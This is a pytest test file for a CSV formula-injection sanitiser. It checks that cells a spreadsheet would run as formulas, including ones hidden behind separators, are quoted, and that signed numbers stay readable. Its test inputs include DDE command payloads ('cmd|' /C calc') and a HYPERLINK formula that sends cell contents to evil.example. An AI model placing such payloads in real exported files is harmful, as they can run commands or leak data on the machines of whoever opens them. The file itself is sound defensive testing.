"""Cells a spreadsheet would evaluate are written as text; plain numbers stay numbers."""

import csv
import io

import pytest

from ordergate.sinks.csv_safe import safe_cell, safe_writer


@pytest.mark.parametrize("value", ["=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1:A2)",
                                   "\tx", "\rx", "-", "+", "=", "-1e3", "--5", "-5-"])
def test_formula_leading_cells_get_a_quote(value):
    assert safe_cell(value) == "'" + value


def test_a_leading_tab_or_return_before_a_formula_is_quoted_on_both_sides():
    # split at the tab or line break, the formula after it would run on its own
    assert (safe_cell("\t=1"), safe_cell("\r=1")) == ("'\t'=1", "'\r'=1")


@pytest.mark.parametrize("value", ["-5", "-12.50", "+3", "-0,5", "12", "", "abc", "a=b",
                                   " =1", "'=1"])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_none_is_an_empty_cell_and_numbers_are_text():
    assert (safe_cell(None), safe_cell(-7), safe_cell(3)) == ("", "-7", "3")


def test_the_writer_escapes_every_cell_and_round_trips():
    buffer = io.StringIO(newline="")
    writer = safe_writer(buffer, lineterminator="\r\n")
    writer.writerows([["=1,2", "-5", 'say "hi"'], ["@x", None, "\nline"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [
        ["'=1,2", "-5", 'say "hi"'], ["'@x", "", "\nline"]]


@pytest.mark.parametrize(("value", "written"), [
    ('X;=HYPERLINK("http://evil.example/?"&A1;"click")',
     'X;\'=HYPERLINK("http://evil.example/?"&A1;"click")'),
    (";@SUM(1+1)", ";'@SUM(1+1)"),
    ("HW-1001;=1+2", "HW-1001;'=1+2"),
    ("a, =1+1", "a, '=1+1"),
    ("a|@x", "a|'@x"),
    ("a\t=1", "a\t'=1"),
    ("a\n=1+1", "a\n'=1+1"),
    ("a;-1+cmd|' /C calc'!A0", "a;'-1+cmd|' /C calc'!A0"),
    ("X;-1|cmd", "X;'-1|cmd"),
    ("X;-2+3", "X;'-2+3"),
    ("a;-", "a;'-"),
    ("=1;=2", "'=1;'=2"),
])
def test_a_trigger_behind_a_separator_gets_a_quote_as_the_split_cell_would_run_it(value, written):
    # Excel set to ";" (German locale), tab or "|" splits the cell there and runs the rest.
    assert safe_cell(value) == written


@pytest.mark.parametrize("value", ["Bolt, -20", "Bolt, -20, -30", "2 x 10; -5 %", "a, +49 30 1234",
                                   "M8;x40", "a-b;c+d"])
def test_a_signed_number_behind_a_separator_stays_readable(value):
    assert safe_cell(value) == value
